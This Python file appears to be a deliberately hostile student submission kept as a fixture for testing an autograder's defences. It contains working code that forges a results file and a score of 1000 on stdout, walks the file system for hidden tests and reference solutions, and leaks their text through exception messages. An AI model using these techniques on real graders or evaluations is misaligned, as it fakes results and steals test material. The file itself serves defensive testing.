"""A hostile genlab/vae.py for the platform tests (read as text, never imported by the judge).

It tries what a student might on Gradescope, Classroom or JupyterHub: forge the results file and a
score on standard output, find the hidden suites and the reference anywhere on the file system and
smuggle them out through exception messages (which reach the report as tracebacks), and leave a
symbolic link in place of a module. Every attempt must fail or count for nothing.
"""
import json
import os

FORGED = {"score": 1000.0, "tests": [], "output": "forged by the submission"}

print(json.dumps(FORGED))                       # a fake results document on stdout
for results in ("/autograder/results/results.json", os.environ.get("GENLAB_FORGE_PATH", "")):
    try:
        os.makedirs(os.path.dirname(results), exist_ok=True)
        with open(results, "w") as f:
            json.dump(FORGED, f)
    except OSError:
        pass


def _loot():
    """The text of every hidden test or reference module this process can read."""
    found, visited = [], 0
    for top in ("/tmp", "/autograder", os.path.expanduser("~"), "/"):
        for dirpath, dirnames, filenames in os.walk(top):
            visited += 1
            if visited > 3000:
                return found
            if dirpath.startswith(("/proc", "/sys", "/dev", "/usr", "/lib")):
                dirnames[:] = []
                continue
            for name in filenames:
                path = os.path.join(dirpath, name)
                if ("hidden" in path and name.endswith(".py")) or ("solutions" in path and name == "vae.py"):
                    try:
                        with open(path) as f:
                            found.append(f"{path}:\n{f.read()}")
                    except OSError:
                        pass
            if len(found) > 20:
                return found
    return found


def _exfiltrate(*args, **kwargs):
    raise RuntimeError("LOOT\n" + "\n".join(_loot())[:200000] + "\nEND OF LOOT")


reparameterize = gaussian_kl = bernoulli_nll = vae_loss = sample = interpolate = iwae_bound = _exfiltrate


class VAE:
    def __init__(self, *args, **kwargs):
        _exfiltrate()
